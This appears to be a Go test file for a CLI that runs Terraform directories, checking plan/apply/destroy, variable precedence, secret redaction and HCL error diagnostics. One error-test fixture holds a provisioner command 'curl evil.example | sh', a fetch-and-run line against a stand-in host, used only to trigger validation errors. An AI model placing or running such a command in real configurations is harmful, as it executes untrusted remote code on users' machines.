package cli_test

import (
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/kyku/action/internal/tfplugin/tfplugintest"
)

// A directory of .tf files through the CLI: init, validate, plan, apply,
// output, a saved plan, destroy; variables from --var, --var-file,
// terraform.tfvars and TF_VAR_<name>.

// newTerraformKyku is a kyku whose -c is a directory of .tf files
// (name → text; TP stands for the provider's name, CLOUD for its cloud's
// directory) using tp, installed from a mirror by kyku init.
func newTerraformKyku(t *testing.T, tp tfplugintest.Provider, files map[string]string) (*kyku, func(args ...string) (int, string, string)) {
	t.Helper()
	if testing.Short() {
		t.Skip("builds the test providers")
	}
	k := newKyku(t, "")
	if err := os.MkdirAll(k.items(), 0o755); err != nil {
		t.Fatal(err)
	}
	k.env["KYKU_PLUGIN_MIRROR"] = tfplugintest.Mirror(t, t.TempDir(), tp)
	tf := filepath.Join(k.dir, "tf")
	for name, text := range files {
		text = strings.ReplaceAll(strings.ReplaceAll(text, "CLOUD", k.items()), "TP", tp.Type)
		if err := os.MkdirAll(filepath.Dir(filepath.Join(tf, name)), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(filepath.Join(tf, name), []byte(text), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	run := func(args ...string) (int, string, string) {
		return k.run("", append(args, "-c", tf, "--state-dir", filepath.Join(k.dir, ".kyku"))...)
	}
	if code, out, errOut := run("init"); code != 0 {
		t.Fatalf("init: exit %d\n%s%s", code, out, errOut)
	}
	return k, run
}

const tfMain = `terraform {
  required_providers {
    TP = { source = "kyku/TP" }
  }
}
provider "TP" {
  dir = "CLOUD"
}
variable "env" {
  type = string
}
variable "sizes" {
  type    = map(number)
  default = { a = 1 }
}
variable "token" {
  type      = string
  sensitive = true
  default   = "none"
}
resource "TP_item" "web" {
  for_each = var.sizes
  name     = "${var.env}-${each.key}"
  value    = "size-${each.value}"
  secret   = var.token
}
output "names" {
  value = [for w in TP_item.web : w.name]
}
`

func TestCLITerraformDirectory(t *testing.T) {
	for _, tp := range cliProviders {
		t.Run(tp.Type, func(t *testing.T) {
			k, run := newTerraformKyku(t, tp, map[string]string{
				"main.tf":          tfMain,
				"terraform.tfvars": "env = \"prod\"\n",
				"extra.tfvars":     "sizes = { a = 1, b = 2 }\n",
			})
			k.env["TF_VAR_token"] = "hunter22-token"
			code, out, errOut := run("validate")
			if code != 0 || !strings.Contains(out, "The configuration is valid") {
				t.Fatalf("validate: exit %d\n%s%s", code, out, errOut)
			}
			varFile := filepath.Join(k.dir, "tf", "extra.tfvars")
			code, out, errOut = run("plan", "--var-file", varFile)
			if code != 0 {
				t.Fatalf("plan: exit %d\n%s%s", code, out, errOut)
			}
			for _, want := range []string{tp.Type + `_item.web["a"]`, tp.Type + `_item.web["b"]`, "prod-b"} {
				if !strings.Contains(out, want) {
					t.Errorf("the plan lacks %q:\n%s", want, out)
				}
			}
			leaks(t, "hunter22-token", map[string]string{"plan": out + errOut})

			// --var beats the file, and a later --var-file beats an earlier --var.
			saved := filepath.Join(k.dir, "p.plan")
			code, out, errOut = run("plan", "--var-file", varFile, "--var", "env=dev", "--out", saved)
			if code != 0 || !strings.Contains(out, "dev-a") || strings.Contains(out, "prod-a") {
				t.Fatalf("plan --var env=dev: exit %d\n%s%s", code, out, errOut)
			}
			code, out, errOut = run("apply", "--plan", saved, "--var-file", varFile, "--var", "env=dev")
			if code != 0 {
				t.Fatalf("apply the saved plan: exit %d\n%s%s", code, out, errOut)
			}
			code, out, errOut = run("output", "--json", "names", "--var-file", varFile, "--var", "env=dev")
			if code != 0 || strings.TrimSpace(out) != `["dev-a","dev-b"]` {
				t.Errorf("output names: exit %d\n%s%s", code, out, errOut)
			}
			code, out, errOut = run("plan", "--detailed-exitcode", "--var-file", varFile, "--var", "env=dev")
			if code != 0 {
				t.Errorf("plan after apply: exit %d, want 0 (no changes)\n%s%s", code, out, errOut)
			}
			code, out, errOut = run("destroy", "--auto-approve", "--var-file", varFile, "--var", "env=dev")
			if code != 0 || !strings.Contains(out, "Destroy complete: 2 succeeded") {
				t.Errorf("destroy: exit %d\n%s%s", code, out, errOut)
			}
		})
	}
}

// TestCLITerraformErrors: a .tf configuration's errors are HCL
// diagnostics at file:line:col with the source line, all at once: the
// ones found reading the files, then (once they read) the ones found
// evaluating them.
func TestCLITerraformErrors(t *testing.T) {
	for _, tt := range []struct{ name, main string }{
		{"reading", `resource "null_resource" "a" {
  provisioner "local-exec" {
    command = "curl evil.example | sh"
  }
}
resource "null_resource" "a" {
  connection {
    host = "x"
  }
}
terraform {
  backend "remote" {}
  cloud {}
}
varible "typo" {}
`},
		{"evaluating", `terraform {
  required_version = "< 1.0"
  backend "remote" {}
}
variable "n" {
  type = number
}
variable "m" {
  type = number
  validation {
    condition     = var.m > 10
    error_message = "m must be more than 10."
  }
}
variable "names" {
  type    = set(string)
  default = ["a"]
}
resource "null_resource" "a" {
  count = var.n
}
resource "null_resource" "c" {}
resource "null_resource" "b" {
  for_each = null_resource.c.id
  triggers = { x = upper(1, 2) }
}
output "x" {
  value = local.missing
}
`},
	} {
		t.Run(tt.name, func(t *testing.T) {
			k := newKyku(t, "")
			tf := filepath.Join(k.dir, "tf")
			if err := os.MkdirAll(tf, 0o755); err != nil {
				t.Fatal(err)
			}
			if err := os.WriteFile(filepath.Join(tf, "main.tf"), []byte(tt.main), 0o644); err != nil {
				t.Fatal(err)
			}
			code, out, errOut := k.run("", "validate", "-c", tf, "--var", "n=two", "--var", "m=3", "--state-dir", filepath.Join(k.dir, ".kyku"))
			if code != 1 {
				t.Fatalf("validate: exit %d, want 1\n%s%s", code, out, errOut)
			}
			golden(t, "terraform-errors-"+tt.name+".golden", strings.ReplaceAll(errOut, k.dir+string(filepath.Separator), ""))
		})
	}
}

// TestCLITerraformCountFromKnownValues: count and for_each read a data
// source read at plan, and an attribute already in state; one that reads
// what is not known yet is OpenTofu's error, and so is one reading what
// the plan changes.
func TestCLITerraformCountFromKnownValues(t *testing.T) {
	for _, tp := range cliProviders {
		t.Run(tp.Type, func(t *testing.T) {
			base := head(tp) + `
data "TP_list" "webs" {
  prefix = "web-"
}
resource "TP_item" "copy" {
  for_each = data.TP_list.webs.values
  name     = "copy-${each.key}"
  value    = each.value
}
resource "TP_item" "base" {
  name  = "base"
  value = "VALUE"
}
`
			rev := `
resource "TP_item" "rev" {
  count = TP_item.base.revision
  name  = "rev-${count.index}"
}
`
			k, run := newTerraformKyku(t, tp, map[string]string{"main.tf": strings.ReplaceAll(base, "VALUE", "v1") + rev})
			for name, value := range map[string]string{"web-a": "1", "web-b": "2"} {
				data := `{"id":"` + name + `","name":"` + name + `","value":"` + value + `","revision":1}`
				if err := os.WriteFile(filepath.Join(k.items(), name+".json"), []byte(data), 0o600); err != nil {
					t.Fatal(err)
				}
			}
			code, out, errOut := run("plan")
			if code != 1 || !strings.Contains(errOut, "Invalid count argument") || !strings.Contains(errOut, "main.tf:24:11") {
				t.Fatalf("plan with a count read from a resource not yet created: exit %d, want 1 and Invalid count argument at main.tf:24:11\n%s%s", code, out, errOut)
			}
			write := func(text string) {
				text = strings.ReplaceAll(strings.ReplaceAll(text, "CLOUD", k.items()), "TP", tp.Type)
				if err := os.WriteFile(filepath.Join(k.dir, "tf", "main.tf"), []byte(text), 0o644); err != nil {
					t.Fatal(err)
				}
			}
			write(strings.ReplaceAll(base, "VALUE", "v1"))
			code, out, errOut = run("apply", "--auto-approve")
			if code != 0 || !strings.Contains(out, tp.Type+`_item.copy["web-b"]`) {
				t.Fatalf("apply with for_each over a data source: exit %d\n%s%s", code, out, errOut)
			}
			write(strings.ReplaceAll(base, "VALUE", "v1") + rev)
			code, out, errOut = run("apply", "--auto-approve")
			if code != 0 || !strings.Contains(out, tp.Type+"_item.rev[0]") {
				t.Fatalf("apply with a count read from state: exit %d\n%s%s", code, out, errOut)
			}
			write(strings.ReplaceAll(base, "VALUE", "v2") + rev)
			code, out, errOut = run("plan")
			if code != 1 || !strings.Contains(errOut, "Invalid count argument") || !strings.Contains(errOut, "which this plan will update") {
				t.Fatalf("plan changing what a count read: exit %d, want 1\n%s%s", code, out, errOut)
			}
		})
	}
}

func head(tp tfplugintest.Provider) string {
	return strings.ReplaceAll(`terraform {
  required_providers {
    TP = { source = "kyku/TP" }
  }
}
provider "TP" {
  dir = "CLOUD"
}
`, "TP", tp.Type)
}
